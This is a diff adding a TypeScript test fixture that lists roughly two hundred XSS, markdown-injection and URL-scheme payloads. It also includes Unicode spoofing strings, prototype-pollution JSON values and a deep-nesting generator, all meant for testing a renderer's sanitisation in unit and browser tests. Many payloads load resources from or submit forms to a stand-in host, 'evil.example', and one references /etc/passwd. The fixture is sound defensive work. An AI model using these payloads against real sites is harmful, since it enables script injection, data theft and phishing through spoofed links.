@@ -1,0 +1,193 @@
+// Texts and values as an attacker would have them recorded: shared by the unit tests and by the test in a real browser.
+// Nothing of this may run, load, navigate, change a prototype or hide what it says.
+
+/** Where a payload would call home; a browser test fails on any request to it. */
+export const ELSEWHERE = "evil.example";
+const URL_ = `https://${ELSEWHERE}`;
+/** What a script would do, were it run: a browser test looks for this name on the window. */
+const RUN = "window.hacked=1";
+
+const TAGS = [
+  `<script>${RUN}</script>`,
+  `<script src=${URL_}/x.js></script>`,
+  `<SCRIPT SRC=//${ELSEWHERE}/x.js></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=${URL_}/pixel.png>`,
+  `<img srcset="${URL_}/a.png 1x">`,
+  `<img/src="x"/onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><image href="${URL_}/a.svg"/></svg>`,
+  `<svg><use href="${URL_}/a.svg#x"/></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<body onload=${RUN}>`,
+  `<body background="${URL_}/b.png">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe src="${URL_}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<object data="${URL_}/x.swf"></object>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="${URL_}/x.svg">`,
+  `<link rel=stylesheet href="${URL_}/x.css">`,
+  `<link rel=prefetch href="${URL_}/p">`,
+  `<link rel=dns-prefetch href="//${ELSEWHERE}">`,
+  `<style>@import '${URL_}/x.css';</style>`,
+  `<style>*{background:url(${URL_}/b.png)}</style>`,
+  `<div style="background:url(${URL_}/d.png)">x</div>`,
+  `<meta http-equiv=refresh content="0;url=${URL_}">`,
+  `<base href="${URL_}/">`,
+  `<form action="${URL_}"><button>x</button></form>`,
+  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<video src="${URL_}/v.mp4" autoplay onerror=${RUN}></video>`,
+  `<video poster="${URL_}/p.png"></video>`,
+  `<audio src="${URL_}/a.mp3" autoplay></audio>`,
+  `<source src="${URL_}/s" onerror=${RUN}>`,
+  `<track src="${URL_}/t.vtt">`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="${URL_}" ping="${URL_}/ping">x</a>`,
+  `<a href=" &#14; javascript:${RUN}">x</a>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<title><img src=x onerror=${RUN}></title>`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!-- --!><img src=x onerror=${RUN}> -->`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/>`,
+  `<!DOCTYPE x [<!ENTITY e SYSTEM "${URL_}/e">]><x>&e;</x>`,
+  `"><script>${RUN}</script>`,
+  `'"--></style></script><script>${RUN}</script>`,
+  `\${${RUN}}`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\`"'><img src=x onerror=${RUN}>`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
+  `<img src="x\0" onerror=${RUN}>`,
+  `<im\0g src=x onerror=${RUN}>`,
+];
+
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `javascript://x/%0a${RUN}`,
+  `java\nscript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  ` javascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `vbscript:${RUN}`,
+  `file:///etc/passwd`,
+  `blob:${URL_}/x`,
+  `filesystem:${URL_}/x`,
+  `about:blank`,
+  `view-source:${URL_}`,
+  `intent://${ELSEWHERE}#Intent;end`,
+  `//${ELSEWHERE}/x`,
+  `\\\\${ELSEWHERE}\\x`,
+  `/\\${ELSEWHERE}`,
+  `../api/settings`,
+  `/api/traces`,
+  `#fragment`,
+  `${URL_}/x?q="onmouseover=${RUN}`,
+  `https://dashcam.example@${ELSEWHERE}/`,
+  `https://\u0430pple.com/`,
+  `https://${ELSEWHERE}\u2028.example/`,
+];
+
+const AROUND: readonly ((to: string) => string)[] = [
+  (to) => `[x](${to})`,
+  (to) => `![x](${to})`,
+  (to) => `[x][r]\n\n[r]: ${to}`,
+  (to) => `<${to}>`,
+];
+
+const MARKDOWN = [
+  `[![x](${URL_}/i.png)](${URL_}/l)`,
+  `![x][pic]\n\n[pic]: ${URL_}/i.png`,
+  `[a](<javascript:${RUN}>)`,
+  `[a](javascript:${RUN} "title")`,
+  `[a](${URL_} "onclick=${RUN}")`,
+  `[x]: ${URL_}/r\n[x]`,
+  `[\u202ehttps://bank.example](${URL_})`,
+  `[https://bank.example](${URL_})`,
+  "```html\n<script>window.hacked=1</script>\n```",
+  "```\n```\n<img src=x onerror=window.hacked=1>",
+  "~~~js\nwindow.hacked=1\n~~~",
+  "`<img src=x onerror=window.hacked=1>`",
+  "| a | b |\n| --- | --- |\n| <img src=x onerror=window.hacked=1> | [x](javascript:1) |",
+  "> <script>window.hacked=1</script>",
+  "- <script>window.hacked=1</script>\n  - <img src=x onerror=window.hacked=1>",
+  "# <svg onload=window.hacked=1>",
+  "$$\\href{javascript:window.hacked=1}{x}$$",
+  "```mermaid\ngraph TD; A-->B; click A \"javascript:window.hacked=1\"\n```",
+  "[a](\njavascript:window.hacked=1)",
+  "[a]\n(javascript:window.hacked=1)",
+  "[x](javascript&#58;window.hacked=1)",
+  "[__proto__]: javascript:window.hacked=1\n\n[__proto__]",
+  "[constructor][constructor]",
+  "[^1]\n\n[^1]: <img src=x onerror=window.hacked=1>",
+  "&#x202e;gnp.exe",
+  "<https://user:password@evil.example/>",
+  "http://evil.example/\u202ecod.exe",
+];
+
+/** Two hundred texts, each of which some page has once taken for markup. */
+export const TEXTS: readonly string[] = [
+  ...TAGS,
+  ...SCHEMES.slice(0, 25).flatMap((to) => AROUND.map((around) => around(to))),
+  ...SCHEMES.slice(25).map((to) => `[x](${to})`),
+  ...MARKDOWN,
+];
+
+/** Texts that look like something else than they are. */
+export const DISGUISED: readonly string[] = [
+  "user\u202egnp.exe",
+  "\u2066access\u2069 \u2067denied\u2069",
+  "a\u200bb\u2060c\ufeffd",
+  "nul\0byte, escape\u001b[31mred, bell\u0007",
+  "lone \ud800 surrogate \udc00",
+  "hidden: \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
+  "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 (left) \u05e2\u05d1\u05e8\u05d9\u05ea",
+  "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(40),
+];
+
+/** Values whose names and shapes are the attack; as JSON, since that is how they come. */
+export const VALUES: readonly string[] = [
+  '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, "toString": "x", "hasOwnProperty": 1}',
+  '{"$": "cut", "of": "str", "size": -1, "head": {"$": "cut", "head": {"$": "cut", "head": "x"}}}',
+  '{"$": "__proto__", "x": 1}',
+  '{"$": "map", "items": [["__proto__", 1], [{"a": 1}, 2], "no pair", [1]]}',
+  '{"$": "object", "type": "<script>window.hacked=1</script>", "fields": {"__proto__": 1}}',
+  '{"$": "masked"}',
+  '{"$": 7}',
+  '{"messages": [{"role": "<img src=x onerror=window.hacked=1>", "parts": [{"type": "__proto__"}, null, 3, {"type": "text"}]}]}',
+  '{"messages": {"$": "cut", "of": "list", "size": 1e300, "head": [{"role": "user", "parts": {"length": 3}}]}}',
+  '{"documents": [{"id": {"$": "ref"}, "content": {"a": 1}, "score": "NaN", "metadata": []}, null, "x"]}',
+];
+
+/** A value as deep as no recursion survives. */
+export function deep(levels: number): unknown {
+  return JSON.parse(`${'{"a":['.repeat(levels / 2)}1${"]}".repeat(levels / 2)}`) as unknown;
+}
